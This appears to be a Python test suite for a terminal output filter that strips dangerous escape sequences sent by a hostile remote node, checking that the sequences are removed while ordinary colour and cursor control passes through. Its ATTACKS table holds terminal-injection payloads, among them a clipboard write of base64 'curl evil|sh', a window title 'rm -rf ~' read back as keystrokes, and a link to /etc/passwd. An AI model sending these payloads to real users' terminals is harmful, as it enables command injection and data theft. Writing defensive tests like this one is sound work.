"""A hostile node's terminal output: nothing but text, colours and cursor reaches our terminal."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pairing.terminalfilter import AFTERWARDS, TerminalFilter, allowed

ATTACKS = {
    "clipboard": b"\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    "clipboard, 8-bit": b"\xc2\x9d52;c;Y3VybA==\xc2\x9c",
    "title": b"\x1b]0;rm -rf ~\x07",
    "title reported as keys": b"\x1b]0;;evil;\x07\x1b[21t",
    "link": b"\x1b]8;;file:///etc/passwd\x1b\\click\x1b]8;;\x1b\\",
    "colour query": b"\x1b]11;?\x07",
    "device attributes": b"\x1b[c",
    "secondary attributes": b"\x1b[>c",
    "cursor report": b"\x1b[6n",
    "status report": b"\x1b[?15n",
    "terminal parameters": b"\x1b[x",
    "mode query": b"\x1b[?2026$p",
    "version query": b"\x1b[>q",
    "identify": b"\x1bZ",
    "answerback": b"\x05",
    "DECRQSS": b'\x1bP$q"p\x1b\\',
    "termcap query": b"\x1bP+q544e\x1b\\",
    "sixel": b"\x1bPq#0;2;0;0;0~-\x1b\\",
    "user defined keys": b"\x1bP0;1|17/0a\x1b\\",
    "application command": b"\x1b_Ga=T,f=100;AAAA\x1b\\",
    "privacy message": b"\x1b^evil\x1b\\",
    "start of string": b"\x1bXevil\x1b\\",
    "screen title": b"\x1bkevil\x1b\\",
    "window size": b"\x1b[8;1;1t",
    "mouse": b"\x1b[?1000h",
    "mouse, any motion": b"\x1b[?1003;1006h",
    "mouse highlight": b"\x1b[1;1;1;1;1T",
    "focus": b"\x1b[?1004h",
    "keyboard protocol": b"\x1b[>1u",
    "modify keys": b"\x1b[>4;2m",
    "newline mode": b"\x1b[20h",
    "printer": b"\x1b[5i",
    "reset": b"\x1bc",
    "alignment": b"\x1b#8",
    "wipe what was shown before": b"\x1b[3J",
    "endless repetition": b"a\x1b[999999999b",
    "right to left": "\u202e".encode(),
    "unfinished string": b"\x1b]52;c;" + b"A" * 5000,
    "linux palette": b"\x1b]P0000000",
    "linux console setting": b"\x1b[9;0]",
    "split by a control": b"\x1b[\x0b6n",
    "within a string": b"\x1b]0;x\x1b[6n\x07",
    "escape within an escape": b"\x1b\x1b[6n",
    "long sequence": b"\x1b[" + b"0;" * 100 + b"6n",
}
HONEST = (
    "plain text, umlauts äöü, box ┌─┐\r\n\tand a bell\a\r\n",
    "\x1b[1;32mgreen\x1b[0m \x1b[38;5;196mred\x1b[38:2::1:2:3mtrue\x1b[m",
    "\x1b[?1049h\x1b[2J\x1b[H\x1b[10;20Hx\x1b[K\x1b[1;24r\x1b[?25l\x1b[?25h\x1b[?1049l",
    "\x1b7\x1b[5A\x1b8\x1bM\x1b(0lqk\x1b(B\x1b=\x1b>\x1b[?1h\x1b[?2004h\x1b[?12;25h",
    "\x1b[4h\x1b[4l\x1b[!p\x1b[2 q\x1b[3L\x1b[2M\x1b[4P\x1b[5@\x1b[7X\x1b[2S\x1b[2T-\x1b[20b",
)  # fmt: skip


def filtered(*parts: bytes) -> str:
    one = TerminalFilter()
    return "".join(map(one.feed, parts))


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_gone_and_what_follows_is_there(name: str) -> None:
    """Control: without the filter the bytes would be what the terminal gets."""
    attack = ATTACKS[name]
    shown = filtered(b"before", attack, b"\x18\r\nafter\r\n")
    assert shown.startswith("before")
    assert shown.endswith("\r\nafter\r\n")
    assert attack.decode() not in shown
    assert_harmless(shown)


@pytest.mark.parametrize("text", HONEST)
def test_what_programs_need_passes_unchanged(text: str) -> None:
    assert filtered(text.encode()) == text


TOKEN = re.compile(
    r"\x1b\[(?P<sequence>[ -?]*[@-~])|\x1b(?P<escape>[()*+][B0A12]|[78DEHM=>])|(?P<text>[^\x1b])"
)


def assert_harmless(shown: str) -> None:
    """By another reader than the filter's own: every control in it is on the lists."""
    at = 0
    while at < len(shown):
        token = TOKEN.match(shown, at)
        assert token, shown[at : at + 40].encode()
        if sequence := token["sequence"]:
            assert allowed(sequence)
            assert sequence[-1] not in "cntixq" or sequence.endswith(" q")
        if text := token["text"]:
            assert text >= " " or text in "\a\b\t\n\v\f\r\x0e\x0f"
            assert not "\x7f" <= text < "\xa0"
        at = token.end()


PIECES = st.lists(
    st.one_of(
        st.sampled_from(list(ATTACKS.values())),
        st.sampled_from([text.encode() for text in HONEST]),
        st.binary(max_size=20),
        st.sampled_from(
            [b"\x1b", b"\x1b[", b"\x1b]", b"\x9b", b"\xc2", b"\x9c", b"\x18", b"?", b";"]
        ),
    ),
    max_size=12,
)


@given(PIECES)
def test_nothing_else_ever_comes_out(parts: list[bytes]) -> None:
    assert_harmless(filtered(*parts))


@given(PIECES)
def test_where_the_bytes_are_cut_makes_no_difference(parts: list[bytes]) -> None:
    whole = b"".join(parts)
    assert filtered(*(bytes([byte]) for byte in whole)) == filtered(whole)


@given(PIECES)
def test_filtering_twice_changes_nothing_more(parts: list[bytes]) -> None:
    once = filtered(*parts)
    assert filtered(once.encode()) == once


@pytest.mark.parametrize(
    ("shown", "back"),
    [
        (b"text", False),
        (b"\x1b[?1049h", True),
        (b"\x1b[?1;47h", True),
        (b"\x1b[?1049h\x1b[?1049l", False),
        (b"\x1b[?25h", False),
    ],
)
def test_our_own_last_words_are_harmless(shown: bytes, back: bool) -> None:
    """And leave the alternate screen, if it was left on only: else the cursor would jump."""
    one = TerminalFilter()
    one.feed(shown)
    assert_harmless(one.afterwards)
    assert ("1049l" in one.afterwards) is back
    assert one.afterwards.endswith(AFTERWARDS)
